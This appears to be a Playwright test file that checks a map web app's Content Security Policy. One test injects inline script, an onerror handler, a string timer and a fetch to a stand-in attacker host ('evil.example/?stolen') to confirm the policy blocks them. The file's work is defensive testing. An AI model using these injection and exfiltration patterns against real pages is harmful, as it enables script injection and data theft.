import { expect } from "@std/expect";
import { afterAll, beforeAll, describe, it } from "@std/testing/bdd";
import type { Browser, Page } from "playwright-core";
import { type RunningApp, startApp } from "../helpers/app.ts";
import { launchBrowser, openMap, type Watched, watchedPage } from "../helpers/browser.ts";
import { painted, TWO_MAPS } from "../helpers/map_page.ts";

const BOSTON = ["user.boston@acme.com", "boston"] as const;

let browser: Browser;
let app: RunningApp;
let watched: Watched;
beforeAll(async () => {
  [browser, app] = await Promise.all([
    launchBrowser(),
    startApp({ environment: { ...TWO_MAPS, BASEMAP: "offline" } }),
  ]);
  watched = await watchedPage(browser, { colorScheme: "light" });
  await watched.page.addInitScript(countViolations);
  await openMap(watched.page, app.origin, ...BOSTON);
});
afterAll(async () => {
  await browser.close();
  await app.stop();
});

/** Runs in the browser: notes what the policy forbids, in the page and in its workers. */
function countViolations(): void {
  const violations: string[] = [];
  Reflect.set(globalThis, "violations", violations);
  addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
    violations.push(`${effectiveDirective} ${blockedURI}`);
  });
}

const violations = (page: Page): Promise<string[]> =>
  page.evaluate(() => Reflect.get(globalThis, "violations"));

describe("the policy for content in a browser", () => {
  for (const colorScheme of ["light", "dark"] as const) {
    it(`lets the ${colorScheme} map draw, its workers, fonts and icons with it, and forbids nothing of it`, async () => {
      const { complaints, page } = watched;
      await page.emulateMedia({ colorScheme });
      await painted(page, page, colorScheme);
      const fonts = await page.evaluate(async () =>
        [...await document.fonts.ready].map(({ family, status }) => `${family}: ${status}`)
      );
      expect(fonts).toEqual(["Inter Subset: loaded"]);
      expect(await violations(page)).toEqual([]);
      expect(complaints).toEqual([]);
    });
  }

  it("forbids what was not there when the page was made", async () => {
    const { page } = watched;
    await page.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "globalThis.ran = true";
      document.body.append(script);
      const image = document.createElement("img");
      image.src = URL.createObjectURL(new Blob(["x"], { type: "image/png" }));
      image.setAttribute("onerror", "globalThis.ran = true");
      document.body.append(image);
      // What a debugger evaluates may evaluate more; a timer's text may not.
      Reflect.apply(setTimeout, globalThis, ["globalThis.ran = true"]);
      return fetch("https://evil.example/?stolen").catch(() => undefined);
    });
    await page.waitForFunction(() => Reflect.get(globalThis, "violations").length >= 5);
    expect(new Set(await violations(page))).toEqual(
      new Set([
        "script-src-elem inline",
        "script-src-attr inline",
        "script-src eval",
        "img-src blob",
        "connect-src https://evil.example/?stolen",
      ]),
    );
    expect(await page.evaluate(() => Reflect.get(globalThis, "ran"))).toBeUndefined();
  });
});
